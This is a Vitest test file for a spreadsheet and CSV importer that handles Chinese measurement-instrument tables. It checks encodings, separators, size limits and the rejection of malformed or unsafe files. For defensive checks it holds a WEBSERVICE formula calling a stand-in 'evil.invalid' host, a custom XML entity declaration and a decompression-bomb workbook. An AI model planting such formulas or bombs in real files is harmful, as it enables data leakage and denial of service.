import { describe, expect, it } from 'vitest';
import { workbook, zip } from '#tests/support/workbook.ts';
import { parseUnit } from '../rules/units/units.server.ts';
import { judgeTable, proposeSettings } from './judge-table.ts';
import { MOST_BYTES, MOST_ROWS, readFile, readPasted } from './read-file.server.ts';

const cells = async (bytes: Uint8Array) => {
  const file = await readFile(bytes);
  return file.ok ? file.rows.map((row) => row.cells) : file.reason;
};
const HEAD = ['测量仪器名称', '测量范围', '扩展不确定度(k=2)'];
const ROW = ['外径千分尺', '(0~25) mm', 'U=1.0 μm'];
const CSV = [HEAD, ROW].map((row) => row.join(',')).join('\r\n');

const utf16 = (text: string, swap = false) => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return swap ? bytes.swap16() : bytes;
};
/** 外径千分尺 and the heading in GB18030, as a Chinese spreadsheet saves them. */
const GB18030 = Buffer.concat([
  Buffer.from([0xc3, 0xfb, 0xb3, 0xc6, 0x2c, 0xb7, 0xb6, 0xce, 0xa7, 0x0d, 0x0a]),
  Buffer.from([0xcd, 0xe2, 0xbe, 0xb6, 0x2c, 0x30, 0x7e, 0x32, 0x35]),
]);

describe('text', () => {
  it.each([
    ['UTF-8', Buffer.from(CSV)],
    ['UTF-8 with its mark', Buffer.from(`\ufeff${CSV}`)],
    ['UTF-16, little end first', utf16(CSV)],
    ['UTF-16, big end first', utf16(CSV, true)],
    ['tabs', Buffer.from(CSV.replaceAll(',', '\t'))],
    ['semicolons', Buffer.from(CSV.replaceAll(',', ';'))],
  ])('in %s', async (_, bytes) => expect(await cells(bytes)).toEqual([HEAD, ROW]));

  it('in GB18030, and nothing in an encoding that is none', async () => {
    expect(await cells(GB18030)).toEqual([
      ['名称', '范围'],
      ['外径', '0~25'],
    ]);
    expect(await cells(Buffer.from([0x61, 0x2c, 0xff, 0xff, 0x80, 0x0a]))).toBe('encoding_unknown');
  });

  it('separated as its first line says, or as makes most sense of it', async () => {
    expect(await cells(Buffer.from('sep=;\r\na;b,c\r\n1;2,5\r\n'))).toEqual([
      ['a', 'b,c'],
      ['1', '2,5'],
    ]);
    const european = 'Instrument;Range;Uncertainty\nGauge block;0,5 mm to 100 mm;0,06 µm\nCaliper;0 mm to 1,5 m;0,02 mm\n';
    expect(await cells(Buffer.from(european))).toContainEqual(['Gauge block', '0,5 mm to 100 mm', '0,06 µm']);
    const file = await readFile(Buffer.from(european));
    expect(file.ok && proposeSettings(file.rows, file.sheets).sheets[0]?.decimal).toBe('comma');
    // Commas within cells do not outdo the separator that gives headings their meaning.
    const tabs = `${HEAD.join('\t')}\n${'a,b,c,d\te,f,g,h\ti,j,k,l\n'.repeat(20)}`;
    expect((await cells(Buffer.from(tabs)))[1]).toEqual(['a,b,c,d', 'e,f,g,h', 'i,j,k,l']);
  });

  it('cut in the middle of a character loses that character alone, and says where', async () => {
    const whole = Buffer.from(`${CSV}\r\n卡尺,(0~150) mm,U=10 μm,说`);
    const file = await readFile(whole.subarray(0, whole.length - 1));
    if (!file.ok) throw new Error(file.reason);
    expect(file).toMatchObject({ encoding: 'utf-8', sheets: [{ remarks: [{ code: 'broken_characters', found: '3' }] }] });
    expect(file.rows.map((row) => row.cells[0])).toEqual([HEAD[0], ROW[0], '卡尺']);
    const { sheets, k } = proposeSettings(file.rows, file.sheets);
    expect(sheets[0]?.remarks).toHaveLength(1);
    expect(judgeTable(file.rows, sheets, { k, field: 'dimensional' }, parseUnit).rows).toHaveLength(2);
  });

  it('keeps the line each row begins in, over blank lines and lines inside a cell', async () => {
    const file = await readFile(Buffer.from('a,b\n\n"x\ny",c\nd,e\n'));
    expect(file.ok && file.rows).toEqual([
      { line: 1, cells: ['a', 'b'] },
      { line: 3, cells: ['x\ny', 'c'] },
      { line: 5, cells: ['d', 'e'] },
    ]);
  });

  it('as it is pasted from a spreadsheet', () => {
    const pasted = readPasted(CSV.replaceAll(',', '\t'));
    expect(pasted.ok && pasted.rows.map((row) => row.cells)).toEqual([HEAD, ROW]);
    expect(readPasted(' \n ')).toMatchObject({ ok: false, reason: 'empty' });
    expect(readPasted('a\u0000\tb')).toMatchObject({ ok: false, reason: 'encoding_unknown' });
  });

  it('of more rows, columns or bytes than are read says which', async () => {
    expect(await readFile(Buffer.from('a,b\n'.repeat(MOST_ROWS + 1)))).toMatchObject({ reason: 'too_many_rows', line: MOST_ROWS + 1 });
    expect(await readFile(Buffer.from('a,b\n'.repeat(MOST_ROWS)))).toMatchObject({ ok: true });
    expect(await readFile(Buffer.from(`${'a,'.repeat(70)}b`))).toMatchObject({ reason: 'too_many_columns', line: 1 });
    expect(await readFile(Buffer.alloc(MOST_BYTES + 1, 'a'))).toMatchObject({ reason: 'too_large' });
  });
});

it('lines within cells count as the rows they are', async () => {
  const file = (rows: number, lines: number) =>
    readPasted(Array.from({ length: rows }, () => `仪\tJJG\t"${Array.from({ length: lines }, () => '1 F').join('\n')}"\t1 %`).join('\n'));
  expect(file(2000, 20)).toMatchObject({ ok: true });
  expect(file(10_000, 50)).toEqual({ ok: false, reason: 'too_many_rows', line: 50 * 802 + 1 });
  expect(await readFile(Buffer.from('a,b\n1,2'))).toMatchObject({ ok: true });
});

describe('what is no table', () => {
  it.each([
    ['nothing', Buffer.alloc(0), 'empty'],
    ['a PDF called .csv', Buffer.from('%PDF-1.7 …'), 'not_a_table'],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 1, 2, 3]), 'not_a_table'],
    ['a program', Buffer.from('MZ\u0090'), 'not_a_table'],
    ['Excel 97', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'old_excel'],
    ['Excel 4, without a container', Buffer.from([0x09, 0x04, 0x06, 0x00, 0x00, 0x00, 0x10, 0x00]), 'old_excel'],
    [
      'a binary workbook',
      zip([
        {
          name: '_rels/.rels',
          data: Buffer.from('<Relationships><Relationship Id="a" Type="x/officeDocument" Target="xl/workbook.bin"/></Relationships>'),
        },
        { name: 'xl/workbook.bin', data: Buffer.from([0x83, 0x01]) },
      ]),
      'old_excel',
    ],
    [
      'a web page called .xls',
      Buffer.from('\ufeff\r\n<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr><td>1</td></tr></table>'),
      'web_page',
    ],
    [
      'the XML of Excel 2003',
      Buffer.from('<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
      'web_page',
    ],
    ['a container without sheets', zip([{ name: 'word/document.xml', data: Buffer.from('<x/>') }]), 'not_a_table'],
    ['a torn container', workbook([{ rows: [HEAD, ROW] }]).slice(0, 300), 'broken_excel'],
    ['a sheet that is no XML', zip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<a><b></a>') }]), 'broken_excel'],
    [
      'entities of its own',
      zip([{ name: 'xl/worksheets/sheet1.xml', data: Buffer.from('<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>') }]),
      'broken_excel',
    ],
    [
      'a locked workbook',
      Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(100_000), Buffer.from('EncryptedPackage', 'utf16le')]),
      'locked_excel',
    ],
  ])('%s', async (_, bytes, reason) => expect(await cells(bytes)).toBe(reason));

  it('a workbook that unfolds without end is stopped, whatever its directory says', async () => {
    const huge = Buffer.alloc(90 * 1024 * 1024, ' ');
    expect(await cells(zip([{ name: 'xl/worksheets/sheet1.xml', data: huge }]))).toBe('excel_bomb');
    expect(['excel_bomb', 'broken_excel']).toContain(await cells(zip([{ name: 'xl/worksheets/sheet1.xml', data: huge, claimed: 100 }])));
    expect(await cells(zip(Array.from({ length: 600 }, (_, i) => ({ name: `x${i}`, data: Buffer.from('x') }))))).toBe('excel_bomb');
  });
});

describe('a workbook', () => {
  it('gives texts, numbers as they were typed, and what merged cells mean', async () => {
    const bytes = workbook([{ rows: [HEAD, ROW, ['', '(25~50) mm', 0.1 + 0.2], ['内径千分尺', 'x', 'y']], merges: ['A2:A3', 'A1:C1'] }]);
    expect(await cells(bytes)).toEqual([HEAD, ROW, ['外径千分尺', '(25~50) mm', '0.3'], ['内径千分尺', 'x', 'y']]);
  });

  it('keeps every sheet that has anything in it, and reads those whose columns are all known', async () => {
    const other = ['压力表', '(0~60) MPa', 'U=0.1 MPa'];
    const file = await readFile(
      workbook([
        { name: '目录', rows: [['目录'], ['一']] },
        { name: '长度', rows: [HEAD, ROW] },
        { rows: [] },
        { name: '力学', rows: [['续'], HEAD, other] },
      ]),
    );
    if (!file.ok) throw new Error(file.reason);
    expect(file.rows.map(({ sheet = 0, line, cells: [first] }) => [sheet, line, first])).toEqual([
      [0, 1, '目录'],
      [0, 2, '一'],
      [1, 1, HEAD[0]],
      [1, 2, ROW[0]],
      [2, 1, '续'],
      [2, 2, HEAD[0]],
      [2, 3, '压力表'],
    ]);
    const { sheets } = proposeSettings(file.rows, file.sheets);
    expect(sheets.map(({ name, read, mapping }) => [name, read, mapping.headings])).toEqual([
      ['目录', false, -1],
      ['长度', true, 0],
      ['力学', true, 1],
    ]);
  });

  it('with formulas gives what was worked out, and never works anything out', async () => {
    const extra =
      '<row r="9"><c r="A9" t="str"><f>WEBSERVICE("http://evil.invalid")</f><v>见表</v></c><c r="B9"><f>1+1</f></c><c r="C9" t="inlineStr"><is><t>U=1 μm</t></is></c></row>';
    expect(await cells(workbook([{ rows: [HEAD], extra }]))).toEqual([HEAD, ['见表', '', 'U=1 μm']]);
  });

  it('of too many rows says so', async () => {
    const rows = Array.from({ length: MOST_ROWS + 1 }, () => [1]);
    expect(await readFile(workbook([{ rows }]))).toMatchObject({ reason: 'too_many_rows' });
  });
});
